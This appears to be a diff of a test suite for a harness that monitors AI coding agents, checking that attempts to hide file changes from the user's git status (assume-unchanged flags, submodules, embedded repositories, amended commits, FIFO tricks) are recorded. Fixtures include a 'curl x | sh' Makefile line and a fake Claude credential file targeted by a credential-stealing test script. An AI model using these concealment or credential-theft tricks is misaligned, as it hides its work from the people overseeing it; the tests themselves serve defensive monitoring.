@@ -6,31 +6,8 @@ import os
 import subprocess
 import time
 
-from lib import AUDIT_TOOL, EXEC, HELPERS, PYTHON, check, harness
-
-GIT_ENV = {"GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@x", "GIT_COMMITTER_NAME": "a",
-           "GIT_COMMITTER_EMAIL": "a@x", "GIT_CONFIG_NOSYSTEM": "1"}
-
-
-def _repo(wd, files):
-    env = dict(os.environ, HOME=wd.state, **GIT_ENV)
-    env.pop("LD_PRELOAD", None)
-    subprocess.run(["git", "init", "-q", wd.path], check=True, env=env)
-    for name, text in files.items():
-        if text.startswith("->"):
-            os.symlink(text[2:], os.path.join(wd.path, name))
-        else:
-            wd.file(name, text)
-    subprocess.run(["git", "-C", wd.path, "add", "."], check=True, env=env)
-    subprocess.run(["git", "-C", wd.path, "commit", "-qm", "0"], check=True, env=env)
-    time.sleep(1.1)  # the session's files change in a later second
-    return env
-
-
-def _status(wd, env):
-    return subprocess.run(["git", "status", "--short"], cwd=wd.path, capture_output=True,
-                          text=True, env=env, check=True).stdout
-
+from gitrepo import GIT_ENV, commit_all, hidden, project, status, user_env
+from lib import AUDIT_TOOL, EXEC, HELPERS, check, harness
 
 def test_a_flagged_file_replaced_by_another_kind_is_recorded(wd):
     """The check of changes hidden from git status hashed a flagged
@@ -43,7 +20,7 @@ def test_a_flagged_file_replaced_by_another_kind_is_recorded(wd):
     other = os.path.join(wd.state, "evil.mk")
     with open(other, "w") as f:
         f.write("all:\n\tcurl x | sh\n")
-    env = _repo(wd, {"Makefile": "all:\n\techo ok\n", "run.sh": "echo ok\n",
+    env = project(wd, {"Makefile": "all:\n\techo ok\n", "run.sh": "echo ok\n",
                      "tool": "->run.sh", "a.txt": "a\n"})
     script = ("rm Makefile; ln -s \"$1\" Makefile; rm tool; ln -s /bin/sh tool;"
               " chmod +x run.sh; git update-index --assume-unchanged Makefile tool run.sh;"
@@ -51,7 +28,7 @@ def test_a_flagged_file_replaced_by_another_kind_is_recorded(wd):
     r = harness(["sh", "-c", script, "sh", other], wd, policy=None,
                 env=dict(GIT_ENV, HOME=wd.state))
     check(r.status == 0, r.stderr[-500:])
-    check(_status(wd, env) == "", "the user's git status: %r" % _status(wd, env))
+    check(status(wd, env) == "", "the user's git status: %r" % status(wd, env))
     recs = r.events(event="hidden_changes")
     check(recs, "no hidden_changes record: %s" % r.dump()[-3000:])
     got = sorted((c["path"], c["hidden_by"], c.get("now")) for c in recs[0]["changes"])
@@ -91,7 +68,7 @@ def test_a_fifo_in_the_index_place_does_not_hold_harness_exec(wd):
     made."""
     for script in ("rm .git/index; mkfifo .git/index",
                    "mkfifo .gitattributes; echo b > a.txt; git update-index --skip-worktree a.txt"):
-        _repo(wd, {"a.txt": "a\n"})
+        project(wd, {"a.txt": "a\n"})
         took, err, recs = _unblocked(wd, script)
         check(recs[-1]["event"] == "session_end" and took < 30, "%.1f s, %r" % (took, recs[-1]))
         fail = [r for r in recs if r["event"] == "hidden_changes_failed"]
@@ -101,33 +78,34 @@ def test_a_fifo_in_the_index_place_does_not_hold_harness_exec(wd):
                         os.path.join(wd.path, ".gitattributes")], check=True)
 
 
+def _hidden_from_status(wd, env, script, path):
+    """The agent (sh) runs script a second after the repository's
+    commit: the user's git status shows nothing, and the record names
+    path as hidden by assume-unchanged."""
+    time.sleep(1.1)
+    r = harness(["sh", "-c", script], wd, policy=None, env=dict(GIT_ENV, HOME=wd.state))
+    check(r.status == 0, r.stderr[-500:])
+    check(status(wd, env) == "", "the user's git status: %r" % status(wd, env))
+    hidden(r, [(path, "assume-unchanged")])
+
+
 def test_a_change_hidden_in_a_submodule_is_recorded(wd):
     """A submodule's index is the agent's to write as the project's is
     (its git directory, .git/modules/NAME, is the project's), and the
     user's git status in the project reads it: a file of the submodule
     changed and marked assume-unchanged there was shown by nothing, and
     the check looked at the project's own index only (unchanged)."""
-    env = dict(os.environ, HOME=wd.state, **GIT_ENV)
-    env.pop("LD_PRELOAD", None)
+    env = user_env(wd)
     up = os.path.join(wd.state, "up")
     for d, name in ((up, "lib.c"), (wd.path, "main.c")):
         subprocess.run(["git", "init", "-q", d], check=True, env=env)
         with open(os.path.join(d, name), "w") as f:
             f.write("int x;\n")
-        subprocess.run(["git", "-C", d, "add", "."], check=True, env=env)
-        subprocess.run(["git", "-C", d, "commit", "-qm", "0"], check=True, env=env)
+        commit_all(d, env)
     subprocess.run(["git", "-C", wd.path, "-c", "protocol.file.allow=always", "submodule", "add",
                     "-q", up, "sub"], check=True, env=env)
     subprocess.run(["git", "-C", wd.path, "commit", "-qm", "1"], check=True, env=env)
-    time.sleep(1.1)
-    script = "cd sub && echo 'int evil;' > lib.c && git update-index --assume-unchanged lib.c"
-    r = harness(["sh", "-c", script], wd, policy=None, env=dict(GIT_ENV, HOME=wd.state))
-    check(r.status == 0, r.stderr[-500:])
-    check(_status(wd, env) == "", "the user's git status: %r" % _status(wd, env))
-    recs = r.events(event="hidden_changes")
-    check(recs, "no hidden_changes record: %s" % r.dump()[-2000:])
-    got = [(c["path"], c["hidden_by"]) for c in recs[0]["changes"]]
-    check(got == [("sub/lib.c", "assume-unchanged")], "recorded: %r" % got)
+    _hidden_from_status(wd, env, "cd sub && echo 'int evil;' > lib.c && git update-index --assume-unchanged lib.c", "sub/lib.c")
 
 
 def test_the_oom_weight_written_by_other_calls_is_refused(wd):
@@ -154,24 +132,10 @@ def test_a_python_package_does_not_choose_claudes_profile(wd):
     the claude profile and read the user's Claude login still. A package
     directory is now looked for after the path's first package root of
     any kind (node_modules, site-packages, dist-packages)."""
-    from test_attack17 import STEAL
-    from test_default_policy import fake_home
-    home = fake_home(wd)
-    os.makedirs(os.path.join(home, ".claude"))
-    with open(os.path.join(home, ".claude", ".credentials.json"), "w") as f:
-        f.write('{"claudeAiOauth": {"accessToken": "sk-ant-oat01-SECRET"}}\n')
+    from test_attack17 import claude_home, run_as_claude
+    home = claude_home(wd)
     for root in ("lib/python3.11/site-packages", "lib/python3/dist-packages"):
-        pkg = os.path.join(wd.path, root, "evilagent", "node_modules", "@anthropic-ai",
-                           "claude-code")
-        os.makedirs(pkg)
-        agent = os.path.join(pkg, "agent.py")
-        with open(agent, "w") as f:
-            f.write(STEAL)
-        r = harness([PYTHON, agent], wd, policy=None, env={"HOME": home})
-        profiles = r.one(event="session_start").get("profiles")
-        check("SECRET" not in r.stdout, "%s: the third-party agent read Claude's login"
-              " (profiles %r): %r" % (root, profiles, r.stdout))
-        check(not any(p.get("name") == "claude" for p in profiles or []), "profiles %r" % profiles)
+        run_as_claude(wd, home, root + "/evilagent")
 
 
 def test_a_change_amended_into_the_users_commit_is_recorded(wd):
@@ -183,7 +147,7 @@ def test_a_change_amended_into_the_users_commit_is_recorded(wd):
     that no longer holds its commit of the start at the end (amended,
     reset) is a history_rewritten record and a warning. A branch that
     grew (the agent's own commits) is not."""
-    env = _repo(wd, {"Makefile": "all:\n\techo ok\n"})
+    env = project(wd, {"Makefile": "all:\n\techo ok\n"})
     before = subprocess.run(["git", "log", "--format=%an %ad %s"], cwd=wd.path, env=env,
                             capture_output=True, text=True).stdout
     script = ("printf 'all:\\n\\tcurl x | sh\\n' > Makefile;"
@@ -192,7 +156,7 @@ def test_a_change_amended_into_the_users_commit_is_recorded(wd):
     check(r.status == 0, r.stderr[-500:])
     after = subprocess.run(["git", "log", "--format=%an %ad %s"], cwd=wd.path, env=env,
                            capture_output=True, text=True).stdout
-    check(_status(wd, env) == "" and after == before, "%r %r" % (before, after))
+    check(status(wd, env) == "" and after == before, "%r %r" % (before, after))
     rec = r.events(event="history_rewritten")
     check(rec and rec[0]["ref"].startswith("refs/heads/") and rec[0]["was"] != rec[0]["now"],
           "no history_rewritten record: %s" % r.dump()[-1500:])
@@ -220,24 +184,12 @@ def test_a_change_hidden_in_an_embedded_repository_is_recorded(wd):
     project's index unchanged and no .gitmodules, the check was not
     made. Any git index the agent writes (a file "index" beneath a .git,
     written, renamed in or linked) now has it made."""
-    env = dict(os.environ, HOME=wd.state, **GIT_ENV)
-    env.pop("LD_PRELOAD", None)
+    env = user_env(wd)
     lib = os.path.join(wd.path, "vendor", "lib")
     for d in (lib, wd.path):
         subprocess.run(["git", "init", "-q", d], check=True, env=env)
     wd.file("vendor/lib/x.c", "int x;\n")
     wd.file("m.c", "int m;\n")
-    subprocess.run(["git", "-C", lib, "add", "."], check=True, env=env)
-    subprocess.run(["git", "-C", lib, "commit", "-qm", "0"], check=True, env=env)
-    subprocess.run(["git", "-C", wd.path, "add", "."], check=True, env=env,
-                   capture_output=True)
-    subprocess.run(["git", "-C", wd.path, "commit", "-qm", "0"], check=True, env=env)
-    time.sleep(1.1)
-    script = "cd vendor/lib && echo 'int evil;' > x.c && git update-index --assume-unchanged x.c"
-    r = harness(["sh", "-c", script], wd, policy=None, env=dict(GIT_ENV, HOME=wd.state))
-    check(r.status == 0, r.stderr[-500:])
-    check(_status(wd, env) == "", "the user's git status: %r" % _status(wd, env))
-    recs = r.events(event="hidden_changes")
-    check(recs, "no hidden_changes record: %s" % r.dump()[-2000:])
-    got = [(c["path"], c["hidden_by"]) for c in recs[0]["changes"]]
-    check(got == [("vendor/lib/x.c", "assume-unchanged")], "recorded: %r" % got)
+    commit_all(lib, env)
+    commit_all(wd.path, env)
+    _hidden_from_status(wd, env, "cd vendor/lib && echo 'int evil;' > x.c && git update-index --assume-unchanged x.c", "vendor/lib/x.c")
